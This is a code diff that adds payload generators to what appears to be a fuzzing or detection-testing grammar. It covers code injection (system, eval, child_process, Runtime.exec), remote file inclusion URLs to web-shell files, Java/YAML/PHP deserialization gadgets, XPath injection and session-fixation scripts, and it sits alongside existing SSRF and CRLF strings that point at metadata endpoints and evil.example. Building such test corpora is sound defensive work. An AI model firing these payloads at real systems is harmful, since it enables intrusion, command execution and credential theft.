@@ -79,6 +79,17 @@ const GRAMMAR: Record<AttackClass, Gen[]> = {
   ssrf: [(r) => pick(r, ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://localhost:25/", "file:///etc/passwd", "http://[::]:22/", "http://0177.0.0.1/"])],
   crlf: [(r) => `${pick(r, ["", "x"])}${pick(r, ["%0d%0a", "\r\n"])}${pick(r, ["Set-Cookie: a=1", "Location: //evil.example", "X-Test: 1"])}`],
   scanner: [(r) => pick(r, ["/.env", "/.git/config", "/wp-login.php", "/backup.zip", "/admin.php.bak", "/.DS_Store", "/server-status", "/phpinfo.php"])],
+  "code-injection": [
+    (r) => `${pick(r, ["<?php ", "<?= ", ""])}${pick(r, ["system", "passthru", "shell_exec", "exec", "assert", "eval"])}(${pick(r, ["'id'", "$_GET['c']", "base64_decode('aWQ=')", "\"whoami\""])})${pick(r, [";", "; ?>", ""])}`,
+    (r) => pick(r, ["require('child_process').exec('id')", "process.mainModule.require('child_process').execSync('ls')", "new java.lang.ProcessBuilder('id').start()", "java.lang.Runtime.getRuntime().exec('id')", "__import__('os').system('id')"]),
+  ],
+  rfi: [(r) => `${pick(r, ["http", "https", "ftp"])}://${host(r)}/${pick(r, ["shell.txt", "x.php", "c99.txt", "evil"])}${pick(r, ["?", "%00", "??", ""])}`],
+  deserialization: [
+    (r) => pick(r, ["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "aced0005737200116a6176612e7574696c2e48617368", "!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x.example/']]]]"]),
+    (r) => `O:${pick(r, ["8", "4", "12"])}:"${pick(r, ["stdClass", "Evil", "Monolog\\Handler"])}":1:{s:${pick(r, ["4", "3"])}:"${pick(r, ["file", "cmd"])}";s:2:"id";}`,
+  ],
+  xpath: [(r) => `${pick(r, ["'", '"', "x'"])} ${pick(r, ["or", "and"])} ${pick(r, ["count(/*)=1", "name(/*)='root'", "string-length(name(/*))>0", "count(//user)>0"])}${pick(r, [" or '1'='1", "", " and '1'='1"])}`],
+  "session-fixation": [(r) => pick(r, ["<script>document.cookie=\"sessionid=1234;\"</script>", "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "foo\";document.cookie='PHPSESSID=x';//"])],
 };
 
 /** One payload of a class from its templates. */
